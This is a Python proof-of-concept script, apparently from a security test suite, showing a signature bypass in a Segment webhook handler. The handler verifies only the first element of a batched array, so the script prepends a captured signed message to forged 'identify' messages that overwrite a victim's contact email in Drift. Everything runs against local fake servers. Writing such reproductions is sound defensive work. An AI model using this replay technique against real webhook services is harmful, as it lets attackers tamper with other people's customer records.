"""Signature bypass: one captured signed Segment message authenticates any batch after it.

check_signature (sources/segment/webhooks.py) accepts a JSON array when X-Signature is the
HMAC of the array's FIRST element (Actions batching quirk), then take_batch stores and
delivers EVERY element. The signature covers no time, so any one signed body ever seen
(a Classic single-message request, a log, a proxy) is a permanent key: post
`[captured, forged...]` with the captured signature and the forged elements are written to
Drift (contact attributes, timeline events) -- the element is "authenticated" but the rest
is acted on. The captured element itself is then a `duplicate`, which does not stop the rest.

    .venv/bin/python attacks/new/i911_forged_batch_tail.py
"""
from __future__ import annotations

import hashlib
import hmac
import json
import time

import common

SECRET = "i911-shared-secret"


def main() -> None:
    args = common.arguments(__doc__)
    writes: list[tuple[str, str, bytes]] = []

    def plan(method: str, path: str, body: bytes) -> tuple[int, bytes, float]:
        writes.append((method, path, body))
        if path.startswith("/contacts?"):
            return 200, b'{"data":[{"id":77,"attributes":{"externalId":"victim"}}]}', 0.0
        return 200, b'{"data":{}}', 0.0

    drift = common.TrickleServer(plan)
    drift.server.RequestHandlerClass.do_PATCH = drift.server.RequestHandlerClass._any
    segment = common.harness.FakeSegment()
    url = args.database_url or common.sqlite_url("dss-i911-forged-")
    svc = common.InProcess(common.base_settings(url, segment.url, drift.url,
                                                SEGMENT_SHARED_SECRET=SECRET))
    # 1. A genuine, signed single message (Classic), seen once by the attacker.
    genuine = json.dumps({"type": "track", "userId": "someone", "event": "Signed Up",
                          "messageId": "genuine-1",
                          "timestamp": "2024-05-01T10:00:00Z"}).encode()
    signature = hmac.new(SECRET.encode(), genuine, hashlib.sha1).hexdigest()
    first = svc.client.post("/webhooks/segment", data=genuine, content_type="application/json",
                            headers={"X-Signature": signature})
    svc.deliver(rounds=5)
    # 2. Much later: the same bytes as the first element, forged elements after it.
    forged = [{"type": "identify", "userId": "victim", "messageId": f"forged-{i}",
               "traits": {"email": "attacker@evil.example", "name": f"pwned {i}"}}
              for i in range(3)]
    body = b"[" + genuine + b"," + json.dumps(forged)[1:-1].encode() + b"]"
    replay = svc.client.post("/webhooks/segment", data=body, content_type="application/json",
                             headers={"X-Signature": signature})
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        svc.deliver(rounds=3)
        if sum(1 for m, p, _ in writes if m == "PATCH") >= 3:
            break
        time.sleep(0.2)
    patches = [json.loads(b) for m, p, b in writes if m == "PATCH"]
    report = {"genuine_answer": first.get_json(), "forged_batch_status": replay.status_code,
              "forged_batch_answer": replay.get_json().get("counts"),
              "drift_patches_from_forged_elements": patches,
              "bug": replay.status_code == 200 and bool(patches)}
    drift.close()
    segment.close()
    common.finish(report)


if __name__ == "__main__":
    main()
